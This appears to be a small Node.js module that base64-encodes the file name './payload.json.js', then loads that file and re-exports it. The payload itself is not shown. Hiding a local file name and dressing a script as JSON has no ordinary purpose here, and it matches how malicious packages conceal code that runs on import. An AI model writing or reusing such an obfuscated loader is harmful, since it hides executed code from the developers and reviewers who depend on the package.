const path = require("node:path");

const name = Buffer.from("Li9wYXlsb2FkLmpzb24uanM=", "base64").toString();

module.exports = require(path.join(__dirname, name));
